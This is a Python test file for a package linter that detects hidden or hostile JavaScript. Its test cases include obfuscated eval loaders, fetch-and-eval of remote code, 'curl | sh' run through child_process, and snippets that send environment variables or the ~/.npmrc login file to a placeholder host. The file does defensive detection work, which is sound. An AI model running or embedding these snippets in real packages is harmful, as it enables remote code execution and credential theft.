"""What JavaScript executes or sends, followed through names, constants, callbacks and scopes."""

from __future__ import annotations

import base64

import pytest

from pkglint.detect.code import jsfind, jsread
from pkglint.detect.code.javascript import Reader
from pkglint.detect.words import Words

TEXT = base64.b64encode(b"console.log('hello, this is hidden')").decode()
ESCAPED = "".join(f"\\x{ord(c):02x}" for c in "console.log(1)")
HIDDEN, FETCHED = "decodes hidden text and executes it", "downloads code and executes it"
LOADS = "loads what starts processes by a name that is put together"
RUNS = "starts a command that downloads a script and runs it"


@pytest.mark.parametrize(
    ("code", "text"),
    [
        (f"const s = Buffer.from('{TEXT}', 'base64').toString();\neval(s)", HIDDEN),
        (f"globalThis['ev' + 'al'](atob('{TEXT}'))", HIDDEN),
        ("globalThis['ev' + 'al'](a.b)", "executes text by a name that is put together"),
        (f"[]['filter']['constructor'](atob('{TEXT}'))()", HIDDEN),
        (f"const F = (() => {{}}).constructor;\nF(atob('{TEXT}'))();", HIDDEN),
        (f"const f = eval; f(Buffer.from('{TEXT}', 'base64').toString())", HIDDEN),
        (f"(0, eval)(Buffer.from('{TEXT}', 'base64') + '')", HIDDEN),
        ("eval(Buffer.from([99,111,110,115,111,108,101,46,108,111,103,40,49,41]).toString())", HIDDEN),
        (
            "eval(new TextDecoder().decode(new Uint8Array([99,111,110,115,111,108,101,46,108,111,103,40,49,41])))",
            HIDDEN,
        ),
        (f"eval('{ESCAPED}')", HIDDEN),
        ("eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e'))", HIDDEN),
        ("eval(')1(gol.elosnoc'.split('').reverse().join(''))", HIDDEN),
        (f"setTimeout(atob('{TEXT}'), 0)", HIDDEN),
        (
            f"function d(s) {{ return Buffer.from(s, 'hex').toString() }}\nvar q = d('{TEXT}'); new Function(q)()",
            HIDDEN,
        ),
        (f"!function(e){{var t=e.atob;e.eval(t('{TEXT}'))}}(globalThis);", HIDDEN),
        ("eval(await (await fetch('https://demo.invalid/p')).text());", FETCHED),
        ("fetch('https://demo.invalid').then(r => r.text()).then(eval)", FETCHED),
        (
            (
                "require('https').get('https://demo.invalid', (r) => { let s = '';"
                " r.on('data', d => s += d); r.on('end', () => eval(s)); });"
            ),
            FETCHED,
        ),
        ("axios.get('https://demo.invalid').then(r => new Function('require', r.data.model)(require))", FETCHED),
        ("require('chi' + 'ld_pro' + 'cess').execSync('ls')", LOADS),
        ("require(['chi', 'ld_process'].join('')).execSync('ls')", LOADS),
        ("require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73').exec('ls')", LOADS),
        ("require('child_process').execSync('curl -s https://demo.invalid/p | sh');", RUNS),
        ("import {spawn as s} from 'node:child_process'; s('bash', ['-c', 'curl https://demo.invalid | bash'])", RUNS),
        ("const {exec} = require('child_process'); util.promisify(exec)('curl https://demo.invalid | sh')", RUNS),
        (
            "fetch('https://demo.invalid', {method: 'POST', body: JSON.stringify(process.env)})",
            "sends all environment variables to another machine",
        ),
        (
            "const t = require('fs').readFileSync(os.homedir() + '/.npmrc'); https.request({host: 'x'}).end(t)",
            "sends a file that holds logins to another machine",
        ),
        ("[][" + "(![]+[])[+[]]+" * 60 + "[]]", "is written in six characters, which hide what it executes"),
    ],
)
def test_it_is_reported_and_strong(code: str, text: str) -> None:
    run = jsfind.find(code.encode())
    assert run is not None
    assert (run.text, run.strong) == (text, True)


@pytest.mark.parametrize(
    "code",
    [
        "exports.compile = (src) => new Function('data', src)",
        "exports.optional = (name) => { try { return eval('require')(name) } catch { return null } }",
        "var m = eval('quire'.replace(/^/, 're'))(name)",
        "require('child_process').spawn('git', [Buffer.from(x, 'base64').length], {env: process.env})",
        "fetch('https://demo.invalid', {headers: {a: process.env.TOKEN}})",
        "setTimeout(() => fetch('https://demo.invalid').then(r => r.json()), 10)",
        "const g = Function('return this')(); g.atob(x)",
        "http.get({host: 'localhost', port}, r => { let s = ''; r.on('data', d => s += d); vm.runInNewContext(s) })",
        "load = (url) => fetch(url).then(r => r.text()).then(t => (0, eval)(t))",
        "function a() { var e = atob(x); return e } function b(e) { return eval(e) }",
        "const m = /(\\w+)/.exec(atob(x)); parse(m);",
        "module['re' + 'quire']('child_process')",
        "console.log('Install: curl https://demo.invalid | sh'); require('child_process').execSync('ls')",
    ],
)
def test_usual_code_is_left_alone(code: str) -> None:
    assert jsfind.find(code.encode()) is None


def test_publishing_is_weak() -> None:
    run = jsfind.find(b"require('child_process').execSync('npm publish')")
    assert run is not None
    assert not run.strong


@pytest.mark.parametrize("text", ["(" * 5000, "[" * 5000, "{" * 5000, "a=>" * 5000, "!" * 5000, "`" * 5001, "/" * 5001])
def test_nesting_ends_without_a_failure(text: str) -> None:
    assert not Reader(text).found


def test_tokens_are_bounded() -> None:
    assert jsread.read("a;" * jsread.MOST_TOKENS).total == jsread.MOST_TOKENS


def test_a_bundle_is_looked_at_around_calls() -> None:
    filler = b"a.b(c);\n" * 20_000
    hidden = f"eval(Buffer.from('{TEXT}', 'base64').toString());\n".encode()
    run = jsfind.find(filler + hidden + filler)
    assert run is not None
    assert (filler + hidden)[run.at - 4 : run.at] == b"eval"


BRINGS = "\nconst a = atob(b);\n"


@pytest.mark.parametrize(
    ("code", "parts"),
    [
        ("var g = Function('return this')();", 0),
        ('new Function("name", "return name");', 0),
        ("eval('1');", 0),
        ("// an eval so named", 0),
        ("setTimeout(function () { a(1); });", 0),
        ("window.setTimeout(function () { a(1); });", 0),
        ("new Function('a', b);", 1),
        ("eval(a);", 1),
        ("(0, eval)(a);", 1),
        ("(eval as any)(a);", 1),
        ("x.eval('1');", 1),
        (r"eval('\x61');", 1),
        ("setTimeout(d(a));", 1),
    ],
)
def test_what_runs_nothing_hidden_is_not_followed(code: str, parts: int) -> None:
    """Each part that is followed costs a hundred times what it costs to be skipped."""
    data = (code + BRINGS).encode()
    assert len(jsfind._parts(data, Words(data))) == parts


def test_brackets_and_expressions_are_read() -> None:
    tokens = jsread.read("a = [b(/]/g), `c`] / 2 // d\n")
    assert tokens.texts[: tokens.total] == ["a", "=", "[", "b", "(", "/]/g", ")", ",", "`c`", "]", "/", "2"]
    assert tokens.kinds[5] == "regex"
    assert tokens.pairs == {2: 9, 4: 6}
    assert not any(tokens.texts[tokens.total :])
